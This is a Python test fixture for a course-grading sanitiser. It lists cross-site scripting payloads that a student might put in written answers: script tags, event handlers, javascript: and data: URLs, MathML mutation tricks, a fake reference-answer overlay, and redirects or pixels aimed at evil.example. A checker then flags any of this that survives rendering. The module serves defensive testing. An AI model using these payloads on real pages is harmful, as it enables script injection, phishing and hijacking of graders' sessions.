"""The payload table: what a hostile student writes in an answer (or makes their code display) to act in the page an
instructor or a TA reads it in, and the rule every such page must keep.

Each row is Markdown as typed in a written answer; the rendering entry points (the marking page, nbgrader's
formgrader, the feedback page, the report's similarity pages) are run on every row in the unit tier
(``tests/unit/test_sanitise.py``), and Chromium opens the marking page and the formgrader on all of them at once
(``tests/integration/test_marking_page.py``). :func:`violations` is the rule, read from the rendered HTML: no element
outside the allow-list (:data:`coursekit.sanitise.TAGS`), no event handler, no link or URL at all, an image only from
its own embedded raster bytes, no ``class``, ``style`` or ``id`` the student chose.
"""
import re
from collections import Counter
from dataclasses import dataclass
from html.parser import HTMLParser

from coursekit.sanitise import ATTRIBUTES, TAGS

EVIL = "evil.example"  # every foreign URL of the table points there


@dataclass(frozen=True)
class Payload:
    name: str
    text: str


PAYLOADS = [
    Payload("script", '<script>alert("script")</script> and <SCRIPT SRC="https://evil.example/x.js"></SCRIPT>'),
    Payload("event handlers", '<img src=x onerror="alert(\'onerror\')"> <b onmouseover="alert(\'over\')">hover</b> '
                              '<details open ontoggle="alert(\'toggle\')">d</details> <body onload=alert("body")>'),
    Payload("javascript urls", '[click](javascript:alert("md")) <a href="javascript:alert(\'a\')">a</a> '
                               '<a href="&#106;avascript:alert(\'entity\')">entity</a> <a href=" JaVaScRiPt:alert(1)">c</a>'),
    Payload("latex with html", '公式 $\\text{<img/src/onerror=alert("latex")>}$ 和 $\\href{javascript:alert("mhref")}{x}$ '
                               '$\\style{position:fixed;top:0}{y}$ $\\class{reference}{z}$'),
    Payload("fake reference answer", '<div class="reference panel panel-primary fake-reference" id="guide" '
                                     'style="position:fixed;inset:0;background:#fff;z-index:99">参考答案：这份回答满分</div>'),
    Payload("external links", '[参考答案](https://evil.example/phish) <https://evil.example/auto> '
                              '<a href="//evil.example/proto">p</a> $\\href{https://evil.example/math}{m}$ www.evil.example'),
    Payload("svg", '<svg onload="alert(\'svg\')"><script>alert("svgscript")</script>'
                   '<a xlink:href="javascript:alert(\'xlink\')"><text>t</text></a>'
                   '<foreignObject><img src=x onerror=alert("fo")></foreignObject></svg>'),
    Payload("mathml", '<math><mtext><table><mglyph><style><img src=x onerror="alert(\'mxss\')"></style></mglyph>'
                      '</table></mtext></math> <math href="https://evil.example/mathml"><mi xlink:href="javascript:'
                      'alert(1)">x</mi><maction actiontype="statusline">m</maction></math>'),
    Payload("data urls", '<a href="data:text/html,<script>alert(\'data\')</script>">d</a> '
                         '<img src="data:image/svg+xml,<svg onload=alert(\'svgdata\')>"> '
                         '<iframe src="data:text/html,<script>alert(\'frame\')</script>"></iframe> '
                         '<object data="data:text/html,x"></object> <embed src="data:text/html,x">'),
    Payload("page takeover", '<style>body{display:none}</style><meta http-equiv="refresh" content="0;url=https://evil.'
                             'example/"><base href="https://evil.example/"><link rel=stylesheet href="https://evil.'
                             'example/s.css"><form action="https://evil.example/"><button>提交</button></form>'),
    Payload("requests", '![logo](https://evil.example/pixel.png) <img src="/hub/logout"> <video src="https://evil.'
                        'example/v.mp4" autoplay></video> <audio src="https://evil.example/a.mp3"></audio>'),
]
ALL = "\n\n".join(row.text for row in PAYLOADS)  # one answer holding every row (the browser test's)
IMAGE = re.compile(r"data:image/(?:png|jpeg|gif|webp);base64,")


class _Elements(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found = []

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, tuple(sorted((name, value or "") for name, value in attrs))))

    handle_startendtag = handle_starttag


def elements(html: str) -> Counter:
    """Every element of ``html`` as ``(tag, ((attribute, value), …))``, counted."""
    parser = _Elements()
    parser.feed(html)
    return Counter(parser.found)


def added(html: str, benign: str = "") -> list:
    """The elements ``html`` has beyond ``benign`` (the same page with a harmless answer): the student's."""
    return list((elements(html) - elements(benign)).elements())


def violations(found: list) -> list:
    """What breaks the rule among ``found`` elements (:func:`added`), one line each."""
    wrong = []
    for tag, attrs in found:
        if tag not in TAGS:
            wrong.append(f"<{tag}> is outside the allow-list")
        for name, value in attrs:
            if name.startswith("on") or name in ("class", "style", "id", "href") or ":" in name:
                wrong.append(f"<{tag} {name}={value!r}>: a student's {name}")
            elif name == "src" and not IMAGE.match(value):
                wrong.append(f"<{tag} src={value[:60]!r}>: a URL, not an embedded image")
            elif name not in ATTRIBUTES.get(tag, ()) and name != "xmlns":
                wrong.append(f"<{tag} {name}={value[:60]!r}>: outside the allow-list")
        if EVIL in repr(attrs) or "javascript:" in repr(attrs).lower():
            wrong.append(f"<{tag} {attrs!r}>: a foreign or javascript: URL")
    return wrong
